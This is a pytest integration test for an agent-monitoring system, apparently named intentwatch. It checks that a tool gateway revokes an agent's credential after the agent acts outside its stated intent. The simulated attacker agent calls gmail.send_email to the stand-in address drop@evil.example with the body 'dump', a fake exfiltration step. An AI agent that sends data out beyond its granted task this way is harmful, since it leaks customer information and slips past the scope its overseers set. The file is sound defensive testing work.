"""The closed loop on a real broker and worker: an attack call is cut off at the gateway."""

import json
import time
import uuid

import pytest

from intentwatch import RevocationSubscriber, TelemetryPublisher
from intentwatch.contracts import JwtId
from intentwatch.demo import create_topics
from intentwatch.local.worker import WorkerProcess
from intentwatch.pipeline.settings import Settings
from intentwatch.reference import AccessDenied, CredentialBroker, ToolGateway

pytestmark = pytest.mark.kafka

SETTINGS = Settings()


@pytest.fixture
def loop(kafka_bootstrap, tmp_path):
    """A worker trusting a reference broker, and a gateway in front of two tools."""
    create_topics(kafka_bootstrap, SETTINGS.partitions)
    publisher = TelemetryPublisher(kafka_bootstrap)
    broker = CredentialBroker(publisher, ttl=120)
    jwks = tmp_path / "broker-jwks.json"
    jwks.write_text(json.dumps(broker.jwks()))
    worker = WorkerProcess.start(kafka_bootstrap, tmp_path / "worker",
                                 env={"INTENTWATCH_GRANT_ISSUERS_JWKS": str(jwks)})
    try:
        worker.wait_ready()
        suffix = uuid.uuid4().hex[:8]
        agents = {name: f"spiffe://acme.org/agents/support/{name}-{suffix}"
                  for name in ("attacker", "benign")}
        broker.follow(RevocationSubscriber(
            kafka_bootstrap, jwks=worker.jwks_url, agents=set(agents.values()),
            audience=SETTINGS.audience, issuer=SETTINGS.issuer))
        ran: list[str] = []
        gateway = ToolGateway(broker, publisher)

        @gateway.tool("crm.lookup_customer", action="read", target_arg="customer",
                      data_labels=["internal"])
        def lookup_customer(customer: str) -> dict:
            ran.append(f"lookup {customer}")
            return {"id": customer}

        @gateway.tool("gmail.send_email", action="send", target_arg="to",
                      data_labels=["internal"])
        def send_email(to: str, body: str) -> str:
            ran.append(f"mail {to}")
            return "sent"

        yield agents, broker, gateway, publisher, ran
    finally:
        broker.close()
        publisher.close()
        worker.stop()


def start(broker, publisher, agent_id: str):
    task_id = f"task-{uuid.uuid4().hex[:8]}"
    publisher.publish_task_event({"agent_id": agent_id, "task_id": task_id, "status": "started"})
    return broker.issue(agent_id, task_id, intent="look up customer c-17 for ticket 42",
                        tools=["crm.*"], targets=["c-*"], data_labels=["internal"])


def test_gateway_denies_the_attacker_after_revocation_and_serves_the_rest(loop):
    agents, broker, gateway, publisher, ran = loop
    attacker = start(broker, publisher, agents["attacker"])
    benign = start(broker, publisher, agents["benign"])
    publisher.flush()

    assert gateway.call(attacker.token, "crm.lookup_customer", customer="c-17") == {"id": "c-17"}
    gateway.call(attacker.token, "gmail.send_email", to="mailto:drop@evil.example", body="dump")
    assert ran == ["lookup c-17", "mail mailto:drop@evil.example"]  # the gateway cannot know yet

    deadline = time.monotonic() + 60  # a new worker first reads what earlier tests left
    while broker.check(attacker.token).status == "valid":
        assert time.monotonic() < deadline, "no revocation reached the broker"
        time.sleep(0.01)
    revoked = broker.revoked(attacker.credential_id)
    assert revoked.revocation.reason_code == "intent_violation"
    assert revoked.revocation.task_id == attacker.task_id
    assert revoked.revocation.session_token == JwtId(iss=broker.issuer, jti=attacker.credential_id)

    for customer in ("c-18", "c-19"):
        with pytest.raises(AccessDenied, match="revoked \\(intent_violation") as denied:
            gateway.call(attacker.token, "crm.lookup_customer", customer=customer)
        assert denied.value.status == "revoked"
    assert ran == ["lookup c-17", "mail mailto:drop@evil.example"]

    assert gateway.call(benign.token, "crm.lookup_customer", customer="c-20") == {"id": "c-20"}
    assert broker.check(benign.token).status == "valid"
